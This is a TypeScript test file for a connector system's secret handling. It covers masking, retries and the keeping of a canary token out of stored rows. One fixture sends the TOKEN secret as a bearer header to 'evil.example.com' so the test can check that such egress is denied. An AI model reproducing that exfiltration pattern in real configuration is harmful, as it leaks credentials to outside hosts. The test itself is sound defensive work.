import { SecretUnavailable } from '@pao/connectors'
import { secretMissing, secretsInOrder, environmentSecrets } from '#outbound/secrets.ts'
import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest'
import { preview } from '../src/requests/preview.ts'
import { submit } from '../src/requests/submit.ts'
import { ann, itemOf, openWorld, orderOf, type World } from './requests-world.ts'

const canary = 'canary-93b1-of-the-tenant'
const source = secretsInOrder([environmentSecrets(() => ({}))])
/** What the connector was given. */
let used: unknown[] = []
/** Reads of the source that fail before one succeeds. */
let away = 0
let asked: string[] = []
/** Where calls went. */
let sent: string[] = []

const use = (id: string, config: Record<string, unknown>) =>
  itemOf(id, [{ id: 'use', type: 'use', retry: { attempts: 3, delay: 0 }, config }])

let world: World
beforeAll(async () => {
  world = await openWorld({
    items: [
      use('template', { password: '{{secrets.TOKEN}}' }),
      use('reference', { deep: [{ token_ref: 'TOKEN' }] }),
      use('missing', { token_ref: 'NONE' }),
      itemOf('strange', [
        {
          id: 'send',
          type: 'send',
          retry: { attempts: 1 },
          config: { url: 'https://evil.example.com/', token: 'Bearer {{secrets.TOKEN}}' },
        },
        {
          id: 'own',
          type: 'send',
          order: 2,
          config: { url: 'https://api.jira.example.com/', token: 'Bearer {{secrets.TOKEN}}' },
        },
      ]),
    ],
    acts: {
      use(context, config) {
        const [inner] = (config['deep'] ?? []) as { token_ref?: string }[]
        const name = (config['token_ref'] as string | undefined) ?? inner?.token_ref
        const password = config['password'] as string | undefined
        const value = password ?? context.secret(name ?? '')
        used.push(value)
        context.log(`a remote system echoes ${value}`)
        return { kind: 'succeeded', outputs: { echoed: `it said ${value}` } }
      },
      async send({ http, signal }, { url, token }) {
        const headers = { authorization: String(token) }
        await http.send({ method: 'GET', url: String(url), headers, signal })
        return { kind: 'succeeded', outputs: {} }
      },
    },
    hostsOf: ({ name }) => (name === 'TOKEN' ? ['*.jira.example.com'] : undefined),
    outside: {
      http: {
        send: (call) => {
          sent.push(call.url)
          return Promise.resolve({ status: 200 } as never)
        },
      },
      secret(name) {
        throw secretMissing(source, name)
      },
    },
    secretsOf: async (tenant, names) => {
      asked.push(tenant)
      if (away > 0) {
        away -= 1
        const message = 'The secret TOKEN cannot be read: Vault is sealed or in maintenance'
        throw new SecretUnavailable(message, { retryable: true })
      }
      return names.includes('TOKEN') ? { TOKEN: canary } : {}
    },
  })
  await world.replica()
})
beforeEach(() => {
  used = []
  asked = []
  sent = []
  away = 0
})
afterAll(() => world.close())

const everythingKept = async (): Promise<string> => {
  const { rows } = await world.database.pool.query<{ text: string }>(
    `select concat((select string_agg(e::text, '') from request_event e),
      (select string_agg(a::text, '') from attempt a), (select string_agg(a::text, '') from action a),
      (select string_agg(r::text, '') from request r)) as text`,
  )
  return rows[0]?.text ?? ''
}

it.each(['template', 'reference'])(
  'gives a connector the secret that a %s names, and keeps it out of every row',
  async (item) => {
    const { id } = await submit(world.requests, ann, orderOf(item))
    await world.until(id, 'request_completed')

    expect([used, asked]).toEqual([[canary], ['default']])
    expect(await everythingKept()).not.toContain(canary)
  },
)

it('tries again while the source of a secret is away, without a call of the connector', async () => {
  away = 2

  const { id } = await submit(world.requests, ann, orderOf('template'))
  await world.until(id, 'request_completed')

  expect(used).toEqual([canary])
})

it('says where a secret was looked for when it is set nowhere', async () => {
  const { id } = await submit(world.requests, ann, orderOf('missing'))
  await world.until(id, 'request_failed')

  const kept = await everythingKept()
  expect(kept).toContain('The secret NONE is not set; it was looked for in PAO_SECRET_NONE')
})

it('looks up no secret for a preview', async () => {
  const { inputs } = await preview(world.requests, ann, orderOf('template'))

  expect([inputs, asked]).toEqual([{ use: { value: { password: '***' } } }, []])
})

it('does not send a secret to hosts that the operator has not bound it to', async () => {
  const { id } = await submit(world.requests, ann, orderOf('strange'))
  const events = await world.until(id, 'request_failed')

  const failed = events.find(({ type }) => type === 'action_failed')
  expect(sent).toEqual([])
  expect(failed?.event).toMatchObject({
    error: {
      code: 'transport.egress_denied',
      message: expect.stringContaining('TOKEN may not be sent to evil.example.com'),
    },
  })
})
